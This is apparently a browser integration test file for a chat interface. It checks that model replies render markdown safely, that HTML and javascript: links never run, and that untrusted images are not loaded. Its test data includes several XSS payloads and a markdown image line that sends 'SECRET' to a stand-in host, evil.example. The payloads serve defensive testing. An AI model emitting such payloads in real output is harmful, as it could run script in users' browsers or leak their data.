"""Model output is untrusted: markdown renders, HTML never runs, untrusted images are never fetched."""

from __future__ import annotations

import pytest

from .chat_page import REPLY, conversation_id, echo, saved_reply, send, wait_for_status

pytestmark = [pytest.mark.browser, pytest.mark.integration, pytest.mark.timeout(90)]

MARKDOWN = """## Plan

Here is a **short** list with `inline code`:

1. Parse the input
2. Sanitize it

| Step | Cost |
| --- | ---: |
| parse | 2 ms |
| render | 1 ms |

```python
def greet(name):
    return f"Hello, {name}!"
```
"""

XSS = """Attempts:

<img src=x onerror="window.__pwned = 'img'; alert(1)">
<script>window.__pwned = 'script'; alert(2)</script>
<iframe src="javascript:window.top.__pwned='iframe'"></iframe>
<svg onload="window.__pwned = 'svg'"></svg>
<a href="javascript:window.__pwned='raw-link'">raw link</a>

[click me](javascript:window.__pwned='md-link')

[docs](https://example.com/docs)

<style>body { display: none }</style>
"""


def test_markdown_renders_with_highlighting_and_a_copy_button(page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    send(page, echo(MARKDOWN, tps=200))
    wait_for_status(page, "complete")
    body = page.locator(f"{REPLY} .message-body")
    assert body.locator("h2").text_content() == "Plan"
    assert body.locator("ol > li").count() == 2
    assert body.locator("table th").count() == 2 and body.locator("table td").count() == 4
    assert body.locator(":not(pre) > code").text_content() == "inline code"
    assert body.locator(".code-block .code-lang").text_content() == "python"
    assert body.locator(".code-block pre code .hljs-keyword").count() >= 1

    copy = body.locator(".code-block .code-copy")
    copy.click()
    page.wait_for_function("s => document.querySelector(s).textContent === 'Copied!'", arg=f"{REPLY} .code-copy")
    clipboard = page.evaluate("navigator.clipboard.readText()")
    assert clipboard == 'def greet(name):\n    return f"Hello, {name}!"'


def test_html_and_javascript_links_in_a_reply_never_run(page):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    send(page, echo(XSS, tps=300))
    chat = conversation_id(page)
    wait_for_status(page, "complete")
    body = page.locator(f"{REPLY} .message-body")
    for link in body.locator("a:not([href])").all():
        link.click()
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert body.locator("script, iframe, svg, style, img").count() == 0
    assert (
        page.eval_on_selector(
            f"{REPLY} .message-body",
            "n => [...n.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
            ".filter(name => name.startsWith('on')).length",
        )
        == 0
    )
    hrefs = [link.get_attribute("href") for link in body.locator("a").all()]
    assert not any(href and href.lower().startswith("javascript") for href in hrefs)
    docs = body.locator("a", has_text="docs")
    assert docs.get_attribute("href") == "https://example.com/docs"
    assert docs.get_attribute("target") == "_blank"
    assert set(docs.get_attribute("rel").split()) >= {"noopener", "noreferrer"}
    # The raw HTML is shown as text, so a reader sees what the model tried.
    assert "<script>" in body.text_content()
    assert page.is_visible("#messages")
    assert saved_reply(chat).content == XSS


def test_images_load_only_from_trusted_hosts(page, server):
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    trusted = f"{server.http_url}/static/conversations/img/favicon.svg"
    reply = (
        "![secret](https://evil.example/collect?data=SECRET)\n\n"
        '<img src="https://evil.example/raw.png">\n\n'
        f"![logo]({trusted})\n"
    )
    send(page, echo(reply, tps=300))
    wait_for_status(page, "complete")
    body = page.locator(f"{REPLY} .message-body")
    page.wait_for_function("s => document.querySelector(s)?.complete", arg=f"{REPLY} .message-body img")

    assert not [url for url in requested if "evil.example" in url]
    blocked = body.locator(".blocked-image")
    assert blocked.count() == 1
    assert "https://evil.example/collect?data=SECRET" in blocked.text_content()
    assert body.locator("img").count() == 1
    assert body.locator("img").get_attribute("src") == trusted
    assert trusted in requested


def test_a_failed_reply_loaded_from_history_shows_its_error_and_retry(page, alice, make_conversation):
    failed = make_conversation(
        alice,
        messages=[
            ("user", "Summarise the report."),
            ("assistant", "Sure! The", {"status": "failed", "error": "The model provider returned an error."}),
        ],
    )

    page.goto(f"/c/{failed.id}/")

    page.wait_for_selector(f"{REPLY}[data-status=failed]")
    assert "The model provider returned an error." in page.text_content(REPLY)
    assert page.is_visible(f"{REPLY} .msg-action-retry")
